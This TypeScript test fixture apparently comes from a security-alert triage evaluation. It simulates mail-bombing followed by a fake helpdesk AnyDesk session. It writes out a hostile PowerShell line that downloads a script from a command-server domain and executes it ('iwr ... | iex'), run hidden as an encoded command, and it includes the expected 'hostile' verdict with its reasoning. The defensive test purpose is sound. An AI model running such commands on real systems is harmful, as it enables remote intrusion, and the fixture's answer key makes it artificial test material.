// A mailbox is flooded, then somebody offers help by remote control and starts a loader.
import { alert, by, connected, encodedCommand, hashes, hostile, ran, situation } from '../../shorthand.ts'

export const floodedMailboxThenRemoteHelp = situation(
  'flooded-mailbox-then-remote-help',
  'chains',
  'A flood of newsletters, and then a helpful stranger with remote control',
  (setting) => {
    const robert = setting.person('robert.keane')
    const laptop = setting.laptopOf('robert.keane')
    const flooded = setting.ago({ hours: 2, minutes: 40 })
    const at = setting.ago({ hours: 1, minutes: 30 })
    const tool = setting.file('AnyDesk.exe')
    const helper = '31.43.185.9'
    const script = 'iwr -UseBasicParsing https://eu-west.nordcloud-metrics.net/fix/spamfilter.ps1 | iex'
    return {
      alerts: [
        alert(setting, flooded, 'hornetsecurity_atp', 'E-Mail-Flut erkannt', {
          ereignis: 'Mail-Bombing',
          beschreibung: 'Ungewöhnlich viele Anmeldebestätigungen und Newsletter an einen Empfänger',
          empfaenger: robert.email,
          zeitraum: { von: setting.iso(flooded - 40 * 60_000), bis: setting.iso(flooded) },
          anzahl: 1140,
          davon_zugestellt: 873,
          klassifizierung: 'Infomail',
          absenderdomains_top: ['mailer.gardenclub.example-shop.net', 'lists.opengov.io', 'news.fitdeals.co'],
          schweregrad: 'niedrig',
          aktion: 'zugestellt',
          mandant: 'havskoginstruments.com',
        }),
        alert(setting, at + 1_740_000, 'anydesk_my', 'Incoming session from unknown client', {
          webhook: 'session.ended',
          license: 'havskog-service-team',
          sid: '1763981240',
          'start-time': setting.seconds(at),
          'end-time': setting.seconds(at + 1_740_000),
          active: false,
          direction: 'in',
          from: { cid: 1_483_220_917, alias: 'it-helpdesk-support@ad', ip: helper, in_address_book: false },
          to: { cid: 902_114_337, alias: `${laptop.host}@havskog`, hostname: laptop.host.toUpperCase(), os: 'win' },
          permissions: ['control_input', 'clipboard', 'file_transfer', 'elevation'],
          accepted_by: 'local_user',
          comment: 'Fixing the spam problem as discussed on the phone with Robert',
          duration: 1740,
          version: '9.0.4',
        }),
      ],
      facts: {
        intelligence: [setting.risk('ip', helper, 33, [['Recently Rented Server', 1, 'A rented desktop host.']])],
        telemetry: [
          ran(laptop, at - 3 * 60_000, 'AnyDesk.exe', '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --control', {
            ...by(robert),
            ...hashes(tool),
            InitiatingProcessFileName: 'explorer.exe',
          }),
          connected(laptop, at, helper, {
            RemotePort: 7070,
            InitiatingProcessFileName: 'AnyDesk.exe',
            InitiatingProcessAccountName: robert.account,
          }),
          ran(laptop, at + 5 * 60_000, 'cmd.exe', 'cmd.exe', {
            ...by(robert),
            ...hashes(setting.file('cmd.exe')),
            InitiatingProcessFileName: 'AnyDesk.exe',
          }),
          ran(laptop, at + 6 * 60_000, 'whoami.exe', 'whoami /groups', {
            ...by(robert),
            InitiatingProcessFileName: 'cmd.exe',
          }),
          ran(
            laptop,
            at + 8 * 60_000,
            'powershell.exe',
            `powershell.exe -w hidden -nop -EncodedCommand ${encodedCommand(script)}`,
            {
              ...by(robert),
              ...hashes(setting.file('powershell.exe')),
              InitiatingProcessFileName: 'cmd.exe',
            },
          ),
          connected(laptop, at + 8 * 60_000 + 3000, '45.138.16.203', {
            RemoteUrl: 'eu-west.nordcloud-metrics.net',
            InitiatingProcessFileName: 'powershell.exe',
            InitiatingProcessAccountName: robert.account,
          }),
        ],
      },
      expected: hostile(laptop.host),
      because:
        'The flood prepared the call, the stranger is in no address book, and minutes into the session hidden PowerShell under AnyDesk fetched a script from a current command server on this laptop. The comment in the session is the caller speaking.',
    }
  },
)
